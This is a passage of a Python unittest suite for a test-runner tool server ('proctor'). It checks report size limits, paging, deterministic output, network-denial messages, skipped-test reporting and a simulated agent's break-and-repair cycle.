        line = json.dumps(content, ensure_ascii=False, separators=(",", ":"))
        counts = (tokens(text(result)), tokens(line))
        print(f"5,000 tests, 500 failing: {counts[0]} tokens of text, {counts[1]} structured")
        self.assertLessEqual(counts[0], 2000)
        self.assertLessEqual(counts[1], 2000)
        self.assertGreater(counts[0], 800)
        self.assertIn("NOT SHOWN", text(result))
        self.assertEqual(content["failures_omitted"] + len(content["failures"]), 500)
        listed = wire.call("list_tests", timeout=130)
        self.assertLessEqual(tokens(text(listed)), 2000)
        self.assertEqual(listed["structuredContent"]["total_tests"], 5000)
        self.assertIn("next_offset", listed["structuredContent"])

    def test_a_large_report_is_read_page_by_page(self):
        self.write("test_many.py", """\
import pytest
@pytest.mark.parametrize("n", range(60))
def test_bad(n):
    print(str(n) * 12_000)
    assert n < 0
""")
        wire = self.wire()
        wire.call("run_all_tests")
        def page(offset):
            query = f"?offset={offset}" if offset else ""
            answer = wire.request("resources/read", {"uri": f"proctor://runs/run-1/report{query}"})
            return answer["result"]["contents"][0]["text"]
        tests, failures, offset = [], [], 0
        while offset is not None:
            words = page(offset)
            self.assertLess(len(words), 900_000)
            report = json.loads(words)
            self.assertEqual((report["total_tests"], report["failed"]), (60, 60))
            tests += [test["id"] for test in report["tests"]]
            failures += [failure["id"] for failure in report["failures"]]
            offset = report.get("next_offset")
        self.assertEqual((len(set(tests)), tests), (60, failures))
        self.assertEqual(json.loads(page(1000))["tests"], [])
        wrong = wire.request("resources/read", {"uri": "proctor://runs/run-1/report?offset=-1"})
        self.assert_error(wrong, -32602)

    def test_equal_runs_are_told_in_equal_bytes(self):
        self.write("test_code.py", TESTS + "def test_crash():\n    import os; os.abort()\n")
        texts = []
        for _ in range(2):
            wire = self.wire()
            texts.append(text(wire.call("run_all_tests")))
        self.assertEqual(texts[0], texts[1])
        self.assertNotIn(str(self.workspace), texts[0])
        self.write("broken.py", "def f():\n    import traceback; traceback.print_stack()\n    return g()\n")
        words = text(self.wire("--yes").call(
            "execute_function", path="broken.py", function_name="f"))
        self.assertIn("broken.py:3: NameError", words)
        self.assertIn('File "broken.py", line 2', words)
        self.assertNotIn(str(self.workspace), words)
        self.assertNotRegex(texts[0], r"\d ms|\d s\b")

    def test_what_was_denied_is_the_users_to_allow(self):
        self.write("test_net.py", """\
import socket
def test_net(): socket.create_connection(("192.0.2.1", 80), 1)
""")
        words = text(self.wire().call("run_all_tests"))
        self.assertIn("[tests] allow_network_access in proctor.toml would allow it", words)
        self.assertIn("do not change a test", words)

    def test_skipped_and_removed_tests_are_told(self):
        self.write("test_code.py", TESTS)
        wire = self.wire()
        first = wire.call("run_all_tests")
        self.assertNotIn("newly_skipped", first["structuredContent"])
        self.write("test_code.py", TESTS.replace(
            "def test_wrong", "@pytest.mark.skip\ndef test_wrong").replace("def test_ok", "def t_ok"))
        second = wire.call("run_all_tests")
        content = second["structuredContent"]
        self.assertEqual(content["newly_skipped"], ["pytest:.:test_code.py::test_wrong"])
        self.assertEqual(content["gone"], ["pytest:.:test_code.py::test_ok"])
        self.assertIn("NEWLY SKIPPED", text(second))
        self.assertIn("GONE", text(second))
        # A patch is compared, and is nothing to compare with.
        patch = "--- /dev/null\n+++ b/test_more.py\n@@ -0,0 +1 @@\n+def test_more(): pass\n"
        tried = wire.call("run_all_tests", patch=patch)["structuredContent"]
        self.assertEqual((tried["total_tests"], "gone" in tried), (3, False))
        self.assertNotIn("GONE", text(wire.call("run_all_tests")))

    def test_errors_outside_tests(self):
        for name in ["test_code.py", "test_other.py", "test_third.py"]:
            self.write(name, "import nowhere\n")
        result = self.wire().call("run_all_tests")
        self.assertEqual(result["structuredContent"]["errors"][0]["similar_errors"], 2)
        self.assertIn("and the same at test_other.py:1, test_third.py:1", text(result))
        self.assertEqual(result["structuredContent"]["status"], "failed")
        self.assertFalse(result["isError"])
        self.assertRegex(text(result), r"COLLECTION ERROR.* at test_code.py:1\n.*nowhere")


class Agent(Case):
    """An agent that has nothing but the tools and an editor."""

    def test_it_breaks_reads_and_repairs(self):
        shutil.copytree(REPOSITORY / "fixtures/polyglot/python", self.workspace / "python")
        clock = self.workspace / "python/clock.py"
        good = clock.read_text()
        wire = self.wire()
        before = wire.call("run_all_tests")["structuredContent"]
        # It breaks something,
        broken = good.replace("60", "61", 1)
        self.assertNotEqual(broken, good)
        clock.write_text(broken)
        # sees by the first answer what and where,
        answer = wire.call("run_all_tests")
        after = answer["structuredContent"]
        self.assertGreater(after["failed"], before["failed"])
        known = {failure["id"] for failure in before["failures"]}
        new = [f for f in after["failures"] if f["id"] not in known]
        self.assertTrue(new)
        self.assertIn(new[0]["id"], text(answer))
        # tries the repair before it writes it,
        number = next(i for i, (a, b) in enumerate(zip(good.split("\n"), broken.split("\n")), 1) if a != b)
        patch = (
            f"--- a/python/clock.py\n+++ b/python/clock.py\n@@ -{number} +{number} @@\n"
            f"-{broken.splitlines()[number - 1]}\n+{good.splitlines()[number - 1]}\n")
        tried = wire.call("run_test", path=new[0]["id"], patch=patch)["structuredContent"]
        self.assertEqual((tried["status"], tried["tests_run"]), ("passed", 1))
        self.assertEqual(clock.read_text(), broken)
        clock.write_text(good)
        # and proves it, first by the test, then by all.
        alone = wire.call("run_test", path=new[0]["id"])["structuredContent"]
        self.assertEqual(alone["status"], "passed")
        end = wire.call("run_all_tests")["structuredContent"]
        self.assertEqual((end["failed"], end["passed"]), (before["failed"], before["passed"]))


if __name__ == "__main__":
    unittest.main(verbosity=2)
